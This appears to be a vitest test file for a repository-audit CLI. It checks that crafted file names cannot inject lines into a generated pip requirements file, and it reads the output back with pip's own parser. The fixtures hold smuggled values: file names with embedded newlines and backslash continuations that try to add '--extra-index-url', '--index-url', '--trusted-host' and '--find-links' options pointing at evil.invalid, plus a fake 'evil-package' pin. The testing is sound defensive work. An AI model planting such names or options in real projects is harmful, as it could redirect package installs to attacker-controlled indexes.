// The injection corpus: names and text from the audited repo (or a leaderboard) that try to write their own
// lines into files other programs parse. Each output is read back by the program that would parse it (pip's
// own requirements parser, the real container engine) and must hold only what the audit meant to write.
import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { runCli } from "../support/cli.js";
import { writeFiles } from "../clone/git-fixture.js";

const work = mkdtempSync(join(tmpdir(), "ra-inject-"));
afterAll(() => rmSync(work, { recursive: true, force: true }));

/** What pip's own requirements-file parser reads from a file: each line's requirement and the options it sets. */
function pipReads(file: string): Array<{ requirement: string | null; options: string[] }> {
  const script = [
    "import json, sys",
    "from pip._internal.network.session import PipSession",
    "from pip._internal.req.req_file import RequirementsFileParser, get_line_parser",
    "for line in RequirementsFileParser(PipSession(), get_line_parser(None)).parse(sys.argv[1], constraint=False):",
    "    fc = lambda v: bool(v.no_binary or v.only_binary)",
    "    opts = sorted(k for k, v in vars(line.opts).items() if (fc(v) if k == 'format_control' else v)) if line.opts else []",
    "    print(json.dumps({'requirement': line.requirement if line.is_requirement else None, 'options': opts}))",
  ].join("\n");
  const out = execFileSync("python3", ["-c", script, file], { encoding: "utf8", env: { ...process.env, PIP_CONFIG_FILE: "/dev/null" } });
  return out.split("\n").filter(Boolean).map((l) => JSON.parse(l) as { requirement: string | null; options: string[] });
}

describe("requirements output", () => {
  it("keeps repo file names inside their comments: pip reads only the imported distributions, no options", () => {
    const root = join(work, "req-names");
    writeFiles(root, {
      // An importing file whose name ends the comment and writes its own requirement and index.
      "a\nevil-package==6.6.6\n--extra-index-url http://evil.invalid/simple\n#.py": "import numpy\n",
      // A trailing backslash would join the next line onto this one; a continuation writes an option.
      "b\\": "",
      "c\\\n--extra-index-url http://evil.invalid/c\\\n.py": "import pandas\n",
      // A README that states a version (so its name is quoted as the version's source).
      "x\n--index-url http://evil.invalid/d\n/README.md": "### Library Requirements\n1. requests: 2.31.0\n",
      "main.py": "import requests\ntry:\n    import yaml\nexcept ImportError:\n    pass\n",
      "opt\n--trusted-host evil.invalid\n.py": "try:\n    import toml\nexcept ImportError:\n    pass\n",
      "requirements-\n--find-links http://evil.invalid/e\n.txt": "numpy\n",
    });
    const out = join(work, "req-names.txt");
    const result = runCli(["requirements", root, "--out", out]);
    expect(result.code, result.stderr).toBe(0);
    const read = pipReads(out);
    expect(read.flatMap((l) => l.options)).toEqual([]);
    expect(read.map((l) => l.requirement).sort()).toEqual(["Requests==2.31.0", "numpy", "pandas"]);
    // Every line the repo's names reach is a comment or a requirement this audit wrote.
    for (const line of readFileSync(out, "utf8").split("\n")) expect(line).toMatch(/^(#.*|[A-Za-z0-9._-]+(==[\w.]+)?\s+#.*|)$/);
  });
});
